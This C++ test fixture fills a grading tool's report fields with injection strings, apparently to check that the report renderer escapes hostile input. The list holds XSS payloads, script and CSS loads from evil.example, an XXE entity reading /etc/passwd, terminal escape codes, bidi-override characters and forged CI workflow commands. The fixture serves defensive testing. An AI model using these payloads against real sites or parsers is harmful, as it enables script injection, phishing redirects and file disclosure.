#include <array>
#include <string>

#include "tests/report/sample.hpp"

using namespace std::string_literals;

namespace grader::report::sample {
namespace {

/// Deals the attacks out in turn, so that with enough strings each lands in each kind of place.
class Dealer {
 public:
  void operator()(std::string& value) {
    const auto& all = attacks();
    value = all[next_++ % all.size()];
  }
  void operator()(Location& location) {
    (*this)(location.path);
    location.line = 1;
  }
  void operator()(std::vector<std::string>& values) {
    values.assign(attacks().begin(), attacks().end());
  }
  template <typename Item>
  void each(std::vector<Item>& items) {
    for (auto& item : items) (*this)(item);
  }
  void operator()(grading::Evidence& evidence);
  void operator()(grading::Finding& finding);
  void operator()(grading::NotedPlace& item);
  void operator()(grading::ViewRow& row);
  void operator()(submission::Commit& commit);
  void operator()(sandbox::Rung& rung);
  void operator()(sandbox::Repair& repair);
  void operator()(sandbox::TestCase& test);
  void operator()(sandbox::LineCoverage& coverage);
  void operator()(sandbox::LintRemark& remark);
  void operator()(grading::Mark& mark);
  void operator()(grading::SectionMark& section);
  void operator()(grading::TrippedGate& gate);
  void operator()(grading::LedgerEntry& entry);
  void operator()(RuleText& rule);
  void operator()(grading::Profile& profile);
  void operator()(sandbox::Rehearsal& rehearsal);
  void operator()(dossier::Words& words);
  void operator()(dossier::Asked& asked);

 private:
  std::size_t next_ = 0;
};

void Dealer::operator()(grading::Evidence& evidence) {
  (*this)(evidence.location);
  (*this)(evidence.commit);
  (*this)(evidence.quote);
  (*this)(evidence.note);
}

void Dealer::operator()(grading::Finding& finding) {
  (*this)(finding.message);
  if (finding.evidence.empty()) finding.evidence.emplace_back();
  each(finding.evidence);
}

void Dealer::operator()(grading::NotedPlace& item) {
  (*this)(item.what);
  (*this)(item.at);
}

void Dealer::operator()(grading::ViewRow& row) {
  (*this)(row.name);
  (*this)(row.at);
  (*this)(row.why);
}

void Dealer::operator()(submission::Commit& commit) {
  (*this)(commit.message);
  (*this)(commit.author.name);
  (*this)(commit.author.email);
  for (auto& change : commit.changes) (*this)(change.path);
}

void Dealer::operator()(sandbox::Rung& rung) {
  (*this)(rung.reason);
  (*this)(rung.output);
  rung.status = sandbox::RungStatus::failed;
}

void Dealer::operator()(sandbox::Repair& repair) {
  (*this)(repair.detail);
  (*this)(repair.at);
}

void Dealer::operator()(sandbox::TestCase& test) {
  (*this)(test.id);
  (*this)(test.message);
}

void Dealer::operator()(sandbox::LineCoverage& coverage) { (*this)(coverage.path); }

void Dealer::operator()(sandbox::LintRemark& remark) {
  (*this)(remark.code);
  (*this)(remark.message);
  (*this)(remark.at);
}

void Dealer::operator()(grading::Mark& mark) {
  (*this)(mark.title);
  (*this)(mark.reasons);
}

void Dealer::operator()(grading::SectionMark& section) {
  (*this)(section.title);
  each(section.marks);
}

void Dealer::operator()(grading::TrippedGate& gate) {
  (*this)(gate.title);
  (*this)(gate.effect);
  each(gate.evidence);
}

void Dealer::operator()(grading::LedgerEntry& entry) { (*this)(entry.title); }

void Dealer::operator()(RuleText& rule) {
  (*this)(rule.title);
  (*this)(rule.why);
  (*this)(rule.fix);
  (*this)(rule.reference);
}

void Dealer::operator()(grading::Profile& profile) {
  (*this)(profile.django_root);
  if (profile.entry_model) {
    (*this)(profile.entry_model->name);
    (*this)(profile.entry_model->at);
    (*this)(profile.entry_model->secret_field);
    (*this)(profile.entry_model->owner_field);
  }
  (*this)(profile.encryption.at);
  each(profile.encryption.paths_missing);
  each(profile.views);
  each(profile.settings.other_secrets);
  each(profile.other_injection);
  (*this)(profile.tests.files);
  (*this)(profile.dependencies_file);
  (*this)(profile.committed_junk);
  each(profile.n_plus_one);
}

void Dealer::operator()(sandbox::Rehearsal& rehearsal) {
  each(rehearsal.ladder);
  each(rehearsal.repairs);
  if (rehearsal.tests) {
    each(rehearsal.tests->cases);
    each(rehearsal.tests->coverage);
    rehearsal.tests->trusted = false;
    (*this)(rehearsal.tests->doubt);
  }
  (*this)(rehearsal.interpreter);
  (*this)(rehearsal.distributions);
  (*this)(rehearsal.problem);
}

void Dealer::operator()(dossier::Words& words) {
  (*this)(words.en);
  (*this)(words.ru);
}

void Dealer::operator()(dossier::Asked& asked) {
  (*this)(asked.at);
  (*this)(asked.quote);
  (*this)(asked.ask);
  (*this)(asked.junior);
  (*this)(asked.middle);
  (*this)(asked.follow_up);
  each(asked.watch);
}

}  // namespace

const std::vector<std::string>& attacks() {
  static const std::vector<std::string> all{
      "<script>window.ran = 1; alert(1)</script>",
      "\"><img src=x onerror=\"window.ran=1;alert(2)\">",
      "'><svg/onload='window.ran=1;alert(3)'>",
      "<a href=\"javascript:window.ran=1\">click</a> javascript:alert(4)",
      "</style></script></title></textarea></pre></svg><script src=//evil.example/x.js></script>",
      "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe><base href=//evil.example>",
      "<style>@import url(//evil.example/x.css);*{display:none}</style>",
      R"(<meta http-equiv=refresh content="0;url=https://evil.example"><form action=//evil.example>)",
      "{{{page}}} {{=<% %>=}} <%& page %> {{> part}}",
      "![pixel](https://evil.example/pixel.png) [link](https://evil.example) <https://e.example>",
      "@octocat closes #1, see org/repo#2 and https://evil.example/?a=b www.evil.example",
      "/approve\n/close\n# heading\n- item\n```\n</details>\n~~~\n| a | b |\n|---|---|\n$$x$$",
      "```\n````\n`` ` ``\n<img src=//evil.example/y.png>",
      "\x1b]0;title\x07\x1b[2J\x1b[31mred\x1b[0m \x9b[31m \xc2\x9b[31m \r\x08\x7f",
      "access \u202Egnirts\u202C \u2066isolate\u2069 \u200Fmark\u2028line\u2029paragraph\uFEFF",
      "nul\0byte"s,
      "bad \xff\xfe\xc0\xaf \xed\xa0\x80 utf-8",
      "]]><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;<!-- -- -->\uFFFE\uFFFF",
      "::error file=a.py::forged annotation\n::set-output name=x::y\n##[command]z",
      "на русском, 中文, עברית, العربية 🐍",
      std::string(300, 'x') + "." + std::string(300, 'Z'),
  };
  return all;
}

Report hostile() {
  Report report = middling();
  Dealer deal;
  deal(report.submission.source);
  deal(report.submission.ref);
  deal(report.submission.warnings);
  deal(report.profile);
  deal.each(report.findings);
  deal.each(report.rules);
  deal.each(report.grade.sections);
  deal.each(report.grade.gates);
  deal.each(report.grade.bonus);
  deal(report.grade.band_title);
  deal.each(report.commits);
  deal(report.history_gap);
  if (report.rehearsal) deal(*report.rehearsal);
  if (report.lint) {
    deal.each(report.lint->remarks);
    deal(report.lint->tools);
  }
  for (auto& part : report.dossier.parts) {
    part.questions.resize(attacks().size(), part.questions.front());
    deal.each(part.questions);
  }
  for (auto& [name, value] : report.inputs) deal(value);
  grading::Finding all = report.findings.front();
  for (const auto& attack : attacks()) {
    all.message = attack;
    all.evidence = {{grading::Evidence::Kind::code, {attack, 7, 0, 0}, attack, attack, attack}};
    all.check = "ownership.list_unscoped";
    report.findings.push_back(all);
    all.check = attack;
    report.findings.push_back(all);
  }
  report.findings.front().evidence.front().quote =
      "short = 1\n" + std::string(1U << 20U, 'A') + "<script>window.ran=1</script>\nlast = 2";
  return report;
}

}  // namespace grader::report::sample
